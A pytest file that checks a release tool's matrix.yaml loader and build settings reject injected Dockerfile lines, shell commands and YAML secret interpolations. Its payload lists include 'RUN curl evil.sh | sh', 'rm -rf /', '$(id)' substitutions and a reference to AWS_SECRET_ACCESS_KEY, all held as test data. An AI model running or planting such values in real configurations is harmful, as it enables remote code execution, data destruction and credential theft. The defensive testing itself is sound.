"""No pin and no model field can smuggle a Dockerfile line, a shell command or a YAML
interpolation into what is rendered: each is rejected while matrix.yaml loads."""

from __future__ import annotations

import pytest
import yaml

from flagrelease.errors import ConfigError
from flagrelease.matrix import load_matrix
from tests.conftest import ROOT

PAYLOADS = ["1.0\nRUN curl evil.sh | sh", "1.0 && rm -rf /", '1.0"', "$(id)", "`id`", "1.0;id"]
STACK_PINS = ["python", "torch", "torch_npu", "vllm", "vllm_plugin", "flaggems", "flagscale", "flagtree", "flagcx"]
CHIP_FIELDS = [
    ("chips.ascend-a3", ["driver"]),
    ("chips.ascend-a3", ["soc_version"]),
    ("chips.ascend-a3", ["chip_code"]),
    ("chips.ascend-a3", ["sdk", "version"]),
    ("chips.ascend-a3", ["base", "image"]),
    ("chips.cpu", ["base", "bootstrap", "mirror"]),
    ("chips.ascend-a3", ["runtime", "env", "VLLM_USE_V1"]),
    ("chips.cpu", ["stack", "packages", "llama.cpp-tools"]),
]
MODEL_FIELDS = [
    ["served_model_name"],
    ["weights", "mount"],
    ["weights", "modelscope_id"],
    ["serve", "engine_args", "max_model_len"],
]


def load_with(tmp_path, section: str, entry: str, path: list[str], value) -> None:
    data = yaml.safe_load((ROOT / "matrix.yaml").read_text())
    node = data[section].setdefault(entry, {})
    for key in path[:-1]:
        node = node.setdefault(key, {})
    node[path[-1]] = value
    target = tmp_path / "matrix.yaml"
    target.write_text(yaml.safe_dump(data))
    load_matrix(target)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("pin", STACK_PINS)
def test_stack_pin_injection_rejected(tmp_path, pin, payload):
    with pytest.raises(ConfigError, match=f"chips.ascend-a3.stack.{pin}"):
        load_with(tmp_path, "chips", "ascend-a3", ["stack", pin], payload)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("where,path", CHIP_FIELDS, ids=lambda x: ".".join(x) if isinstance(x, list) else x)
def test_chip_field_injection_rejected(tmp_path, where, path, payload):
    entry = where.split(".", 1)[1]
    with pytest.raises(ConfigError, match=f"chips.{entry}"):
        load_with(tmp_path, "chips", entry, path, payload)


@pytest.mark.parametrize("payload", PAYLOADS + ["${oc.env:AWS_SECRET_ACCESS_KEY}"])
@pytest.mark.parametrize("path", MODEL_FIELDS, ids=".".join)
def test_model_field_injection_rejected(tmp_path, path, payload):
    with pytest.raises(ConfigError, match="models.qwen3-4b"):
        load_with(tmp_path, "models", "qwen3-4b", path, payload)


def test_engine_args_must_be_scalars(tmp_path):
    with pytest.raises(ConfigError, match="must be a scalar"):
        load_with(tmp_path, "models", "qwen3-4b", ["serve", "engine_args", "max_num_seqs"], {"a": 1})


def test_env_scripts_are_paths_only(tmp_path):
    with pytest.raises(ConfigError, match="chips.ascend-a3.serve_env_scripts"):
        load_with(tmp_path, "chips", "ascend-a3", ["serve_env_scripts"], ["/a/set_env.sh && rm -rf /"])


def test_json_engine_arg_is_allowed(tmp_path):
    load_with(
        tmp_path, "models", "qwen3-4b", ["serve", "engine_args", "compilation_config"], '{"full_cuda_graph": true}'
    )


@pytest.mark.parametrize("mirror", ['http://m/debian"; id; "', "http://m/$(id)", "http://m/a b"])
def test_apt_mirror_setting_is_validated(mirror):
    from pydantic import ValidationError

    from flagrelease.settings import BuildSettings

    with pytest.raises(ValidationError):
        BuildSettings(apt_mirror=mirror)


def test_json_engine_arg_is_stored_compact_so_no_shell_word_splits(tmp_path):
    """FlagScale 0.8 may join engine arguments into a shell line unquoted: the object keeps
    only braces, brackets, commas, colons and paired quotes around plain text."""
    load_with(
        tmp_path,
        "models",
        "qwen3-4b",
        ["serve", "engine_args", "compilation_config"],
        '{"full_cuda_graph": true, "cudagraph_capture_sizes": [1, 2, 4], "backend": "inductor"}',
    )
    matrix = load_matrix(tmp_path / "matrix.yaml")
    value = matrix.models["qwen3-4b"].serve.engine_args["compilation_config"]
    assert value == '{"full_cuda_graph":true,"cudagraph_capture_sizes":[1,2,4],"backend":"inductor"}'
    assert not set(value) & set(" \t\n;&|$`()<>\\'*?!#~")


@pytest.mark.parametrize(
    "text",
    [
        '{"level": "$(id)"}',
        '{"level": "a b"}',
        '{"a;b": 1}',
        '{"x": ["ok", "`id`"]}',
        '{"x": {"y": {"z": {"w": {"v": 1}}}}}',
        '{"x": "${oc.env:AWS_SECRET_ACCESS_KEY}"}',
        '["not", "an", "object"]',
    ],
)
def test_json_engine_arg_is_checked_all_the_way_down(tmp_path, text):
    with pytest.raises(ConfigError, match="models.qwen3-4b.serve.engine_args"):
        load_with(tmp_path, "models", "qwen3-4b", ["serve", "engine_args", "compilation_config"], text)


@pytest.mark.parametrize(
    "mirror", ["quay.io=mirror.example.com/quay\nRUN id", "quay.io=mirror example.com", "quay.io=$(id)", "quay.io"]
)
def test_base_mirror_setting_is_validated(mirror):
    """The mirror rewrites the base image name, which lands in the Dockerfile's FROM line."""
    from pydantic import ValidationError

    from flagrelease.settings import BuildSettings

    with pytest.raises(ValidationError):
        BuildSettings(base_mirror=mirror, ca_bundle=None, docker_cli="docker")
